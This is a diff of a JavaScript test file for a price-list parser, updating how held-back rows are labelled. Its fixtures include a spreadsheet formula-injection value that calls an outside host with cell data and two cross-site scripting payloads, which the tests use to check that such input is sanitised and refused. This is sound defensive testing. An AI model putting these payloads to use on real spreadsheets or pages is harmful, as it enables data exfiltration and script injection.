@@ -77,8 +77,8 @@ describe('P08 a line given twice', () => {
     expect(rows).toEqual([]);
     const reason = 'rows 2 and 3 below the header are the same row with another input';
     expect(heldBack).toEqual([
-      { what: 'row 2 acme/m', reason },
-      { what: 'row 3 acme/m', reason },
+      { what: 'row 2 below the header, acme/m', reason },
+      { what: 'row 3 below the header, acme/m', reason },
     ]);
   });
 });
@@ -97,22 +97,37 @@ test.each(['4.10', '1E5', 'TRUE', '2026-11-23'])('P14 the name %s stays the name
 });
 
 test.each([
-  ['P07 a price in words', 'openai,gpt-4o,three,9', 'row 1 openai/gpt-4o', 'input is text, not a number'],
-  ['a decimal comma', 'openai,gpt-4o,"2,25",9', 'row 1 openai/gpt-4o', 'input is text, not a number'],
-  ['a hexadecimal number', 'openai,gpt-4o,0x10,9', 'row 1 openai/gpt-4o', 'input is text, not a number'],
+  [
+    'P07 a price in words',
+    'openai,gpt-4o,three,9',
+    'row 1 below the header, openai/gpt-4o',
+    'input is text, not a number',
+  ],
+  ['a decimal comma', 'openai,gpt-4o,"2,25",9', 'row 1 below the header, openai/gpt-4o', 'input is text, not a number'],
+  [
+    'a hexadecimal number',
+    'openai,gpt-4o,0x10,9',
+    'row 1 below the header, openai/gpt-4o',
+    'input is text, not a number',
+  ],
   [
     'a word that JavaScript counts with',
     'openai,gpt-4o,Infinity,9',
-    'row 1 openai/gpt-4o',
+    'row 1 below the header, openai/gpt-4o',
     'input is text, not a number',
   ],
-  ['a price with its currency', 'openai,gpt-4o,$2.25,9', 'row 1 openai/gpt-4o', 'input is text, not a number'],
-  ['P01 a negative price', 'openai,gpt-4o,-1,9', 'row 1 openai/gpt-4o', 'input is negative (-1)'],
-  ['no model', 'openai,,2.25,9', 'row 1 openai', 'it has no model'],
+  [
+    'a price with its currency',
+    'openai,gpt-4o,$2.25,9',
+    'row 1 below the header, openai/gpt-4o',
+    'input is text, not a number',
+  ],
+  ['P01 a negative price', 'openai,gpt-4o,-1,9', 'row 1 below the header, openai/gpt-4o', 'input is negative (-1)'],
+  ['no model', 'openai,,2.25,9', 'row 1 below the header, openai', 'it has no model'],
   [
     'P13 a formula for a model',
     'openai,"=WEBSERVICE(""https://x/?""&A1)",2.25,9',
-    'row 1 openai/·WEBSERVICE··https://x/···A1·',
+    'row 1 below the header, openai/·WEBSERVICE··https://x/···A1·',
     'the model name has characters that no model id has',
   ],
 ])('%s leaves out that row with the reason', async (_fault, line, what, reason) => {
@@ -149,9 +164,9 @@ test('N07 an address that is not https is refused before anything is sent', () =
 });
 
 test.each([
-  ['<img src=x onerror=alert(1)>', 'row 1 acme/·img·src·x·onerror·alert·1··'],
-  ['\\"><svg/onload=alert(1)>', 'row 1 acme/···svg/onload·alert·1··'],
-  ['m'.repeat(5_000), `row 1 acme/${'m'.repeat(55)}`],
+  ['<img src=x onerror=alert(1)>', 'row 1 below the header, acme/·img·src·x·onerror·alert·1··'],
+  ['\\"><svg/onload=alert(1)>', 'row 1 below the header, acme/···svg/onload·alert·1··'],
+  ['m'.repeat(5_000), `row 1 below the header, acme/${'m'.repeat(55)}`],
 ])('X05 a row that is held back is named without markup and in at most 120 signs (%#)', async (model, what) => {
   const { unreadable } = await read(`[{"provider":"acme","model":"${model}","input":"free"}]`);
   expect(unreadable).toEqual([{ what, reason: 'input is text, not a number' }]);
